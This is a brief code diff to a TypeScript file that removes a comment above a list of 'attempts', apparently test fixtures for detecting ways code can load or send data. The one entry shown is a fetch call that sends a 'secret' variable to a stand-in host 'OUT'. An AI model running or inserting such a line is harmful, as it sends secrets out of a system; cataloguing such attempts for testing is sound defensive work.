@@ -1,6 +1,5 @@
 import type { Attempt } from './attempt.ts'
 
-/** Ways to load, ask or send something. */
 export const LOADS: readonly Attempt[] = [
   { name: 'fetch', js: `await fetch('http://OUT/?' + secret)` },
   {
